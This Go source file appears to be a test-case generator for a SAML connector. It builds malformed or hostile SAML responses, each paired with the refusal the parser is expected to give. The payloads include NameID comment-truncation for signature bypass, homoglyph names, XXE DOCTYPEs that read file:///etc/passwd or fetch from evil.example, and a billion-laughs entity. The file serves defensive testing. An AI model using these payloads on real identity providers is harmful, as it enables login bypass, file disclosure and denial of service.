package attack

import (
	"strings"

	"github.com/beevik/etree"

	"github.com/councilid/councilid/connectors/saml2/xmlgate"
)

// texts adds names that readers have cut short, and names that are not what
// they look like.
func (f *forge) texts() {
	name := "<saml:NameID Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\">"
	cut := func(label, refusal string, e *etree.Element, old, replacement string) {
		f.add(Document{Name: label, Refusal: refusal, XML: spelt(e, name+old, name+replacement)})
	}
	cut("C1 comment in the NameID", "comment", f.byAssertion(), "alice", "ali<!---->ce")
	// Signed is the whole, read is the part in front: canonicalisation drops comments.
	longer := func() *etree.Element { return f.byAssertion(text("Subject/NameID", "admin@x.gov.uk.evil.com")) }
	cut("C2 comment before the rest of a name", "comment", longer(), "admin@x.gov.uk.evil.com", "admin@x.gov.uk<!---->.evil.com")
	cut("C4 instruction in the NameID", "processing instruction", longer(), "admin@x.gov.uk.evil.com", "admin@x.gov.uk<?x?>.evil.com")
	cut("C3 CDATA in the NameID", "", f.byAssertion(), "alice", "ali<![CDATA[ce]]>")
	cut("CDATA as the whole NameID", "", f.byAssertion(), "alice", "<![CDATA[alice]]>")
	cut("character references in the NameID", "", f.byAssertion(), "alice", "&#97;l&#x69;ce")
	cut("unknown entity in the NameID", "not well-formed XML in line 1", f.byAssertion(), "alice", "&alice;")
	cut("element in the NameID", "assertion: digest does not match", f.byAssertion(), "alice", "ali<x/>ce")
	f.refuse("element in the NameID, signed", "assertion: NameID without text", f.byAssertion(func(a *etree.Element) {
		at(a, "Subject/NameID").CreateElement("saml:x")
	}))
	f.refuse("blank NameID", "assertion: NameID without text", f.byAssertion(text("Subject/NameID", " \n")))
	cut("Latin letters swapped for Cyrillic ones", "assertion: digest does not match", f.byAssertion(), "alice", "аlice")
	cut("NUL in the NameID", "document contains a NUL byte", f.byAssertion(), "alice", "alice\x00")
	cut("reference to NUL in the NameID", "not well-formed XML in line 1", f.byAssertion(), "alice", "alice&#0;")
	cut("bytes that are no UTF-8", "not well-formed XML in line 1", f.byAssertion(), "alice", "alice\xff")
	cut("space after the NameID", "assertion: digest does not match", f.byAssertion(), "alice", "alice ")
	f.add(Document{
		Name: "comment in an attribute's value", Refusal: "comment",
		XML: spelt(f.byAssertion(), ">alice@example.org<", ">alice@example.org<!---->.evil<"),
	})
	f.add(Document{
		Name: "CDATA around an attribute's value",
		XML:  spelt(f.byAssertion(), ">alice@example.org<", "><![CDATA[alice@example.org]]><"),
	})
	f.add(Document{
		Name: "carriage returns between elements",
		XML:  []byte(strings.ReplaceAll(string(xmlgate.Bytes(f.byAssertion(spaced))), "\n", "\r\n")),
	})
}

// spaced puts a line end before every element that has one around it.
func spaced(e *etree.Element) {
	for _, c := range e.ChildElements() {
		spaced(c)
		e.InsertChildAt(c.Index(), etree.NewText("\n"))
	}
}

// syntax adds documents that parsers read differently, or read files for.
func (f *forge) syntax() {
	whole := func() string { return string(xmlgate.Bytes(f.byAssertion())) }
	add := func(name, refusal, raw string) { f.add(Document{Name: name, Refusal: refusal, XML: []byte(raw)}) }
	in := func(name, refusal, old, replacement string) {
		f.add(Document{Name: name, Refusal: refusal, XML: spelt(f.byAssertion(), old, replacement)})
	}
	add("D1 DOCTYPE with an entity", "directive",
		"<!DOCTYPE r [<!ENTITY a \"admin\">]>"+strings.Replace(whole(), ">alice<", ">&a;<", 1))
	add("D2 DOCTYPE with an external identifier", "directive", "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">"+whole())
	add("D3 DOCTYPE with a default for ID", "directive", "<!DOCTYPE r [<!ATTLIST r ID CDATA \"_evil\">]>"+whole())
	add("DOCTYPE with a parameter entity", "directive",
		"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>"+whole())
	add("a billion laughs", "directive",
		"<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>"+whole())
	add("G3 directive with a comment", "directive", "<!x <!-- > --> >"+whole())
	add("directive in the root", "directive", strings.Replace(whole(), "<saml:Issuer>", "<!x><saml:Issuer>", 1))
	add("D4 declared to be UTF-16", "not XML 1.0 in UTF-8", "<?xml version=\"1.0\" encoding=\"utf-16\"?>"+whole())
	add("declared to be UTF-7", "not XML 1.0 in UTF-8", "<?xml version=\"1.0\" encoding=\"utf-7\"?>"+whole())
	add("in UTF-16", "document contains a NUL byte", "\xff\xfe"+strings.Join(strings.Split(whole(), ""), "\x00")+"\x00")
	add("byte order mark", "text outside the root element", "\ufeff"+whole())
	add("declared in UTF-8", "", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"+whole())
	add("declared loosely", "XML declaration", "<?xml version=\"1.0\" version=\"1.0\"?>"+whole())
	add("D5 XML 1.1", "not XML 1.0 in UTF-8", "<?xml version=\"1.1\"?>"+whole())
	add("D6 twice", "second root element", whole()+whole())
	add("second root", "second root element", whole()+"<r/>")
	add("D7 stylesheet", "processing instruction", "<?xml-stylesheet href=\"http://evil.example/\"?>"+whole())
	add("reference before the root", "text outside the root element", "&#32;"+whole())
	add("CDATA after the root", "text outside the root element", whole()+"<![CDATA[ ]]>")
	add("text after the root", "text outside the root element", whole()+"x")
	add("comment after the root", "comment", whole()+"<!---->")
	add("cut off", "document not complete", whole()[:len(whole())-len("</samlp:Response>")])
	add("nothing at all", "document not complete", " ")
	add("no XML", "text outside the root element", "alice")
	add("end without a start", "end tag without a start", "</r>"+whole())
	add("end of another name", "end tag of another name", strings.Replace(whole(), "</saml:Issuer>", "</samlp:Issuer>", 1))
	in("N3 ID twice", "attribute repeated", "ID=\"_response\"", "ID=\"_response\" ID=\"_evil\"")
	in("attribute of one name by two prefixes", "attribute repeated", "ID=\"_response\"",
		"xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:x=\"1\" b:x=\"2\" ID=\"_response\"")
	in("id of another case", "ID repeated", "ID=\"_response\"", "ID=\"_response\" id=\"_assertion\"")
	in("xml:id", "ID repeated", "ID=\"_response\"", "ID=\"_response\" xml:id=\"_assertion\"")
	in("N1 ID of another namespace before ID", "assertion: reference to something else", "ID=\"_assertion\"",
		"xmlns:e=\"urn:e\" e:ID=\"_assertion\" ID=\"_evil\"")
	in("N2 attributes of another namespace", "", "ID=\"_response\"",
		"xmlns:e=\"urn:e\" e:InResponseTo=\"id-other\" e:Destination=\"https://evil.example/\" ID=\"_response\"")
	in("V1 relative namespace", "relative namespace", "<samlp:Response", "<samlp:Response xmlns:rel=\"1\"")
	in("V2 relative namespace on the signature", "relative namespace", "<ds:Signature", "<ds:Signature xmlns:rel=\"./x\"")
	for _, space := range []string{"urn:x y", ":", "http://[/", "urn:%zz"} {
		in("namespace "+space, "namespace that is no URI", "<samlp:Response", "<samlp:Response xmlns:x=\""+space+"\"")
	}
	in("relative default namespace", "relative namespace", "<saml:Issuer>", "<saml:Issuer xmlns=\"x\">")
	in("prefix bound to nothing", "prefix bound to no namespace", "<samlp:Response", "<samlp:Response xmlns:p=\"\"")
	in("prefix that is a number", "prefix that is no name", "<samlp:Response", "<samlp:Response xmlns:1=\"urn:x\"")
	in("prefix not declared", "prefix not declared", "<saml:Issuer>", "<saml:Issuer><x:y/>")
	in("attribute's prefix not declared", "prefix not declared", "ID=\"_response\"", "ID=\"_response\" x:y=\"\"")
	in("prefix xml bound anew", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:xml=\"urn:x\"")
	in("prefix xmlns bound", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:xmlns=\"urn:x\"")
	in("prefix bound to xmlns", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:x=\"http://www.w3.org/2000/xmlns/\"")
	in("prefix saml bound anew", "assertion: digest does not match", "<saml:Subject>", "<saml:Subject xmlns:saml=\"urn:x\">")
	in("prefix ds bound anew", "assertion: signature of an unexpected shape", "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:x\">")
	in("G1 attribute :x", "malformed name", "ID=\"_response\"", "ID=\"_response\" :x=\"\"")
	in("G2 element x::Root", "not well-formed XML in line 1", "<saml:Issuer>", "<saml:Issuer><x::Root/>")
	in("element xml:x", "element of a reserved namespace", "<saml:Issuer>", "<saml:Issuer><xml:x/>")
	in("element xmlns:x", "malformed name", "<saml:Issuer>", "<saml:Issuer><xmlns:x/>")
	in("white space written two ways", "white space reference in an attribute", "ID=\"_response\"", "ID=\"_response\" x=\"\t&#9;\"")
	in("attributes without white space", "no white space between attributes", " Version=", "Version=")
	in("surrogate by reference in a name", "reference to no character", ">alice<", ">alice&#xD800;<")
	in("surrogate by reference in an attribute", "reference to no character", "ID=\"_response\"", "ID=\"_response\" x=\"&#xDFFF;\"")
	in("attribute without quotes", "not well-formed XML in line 1", "ID=\"_response\"", "ID=_response")
}
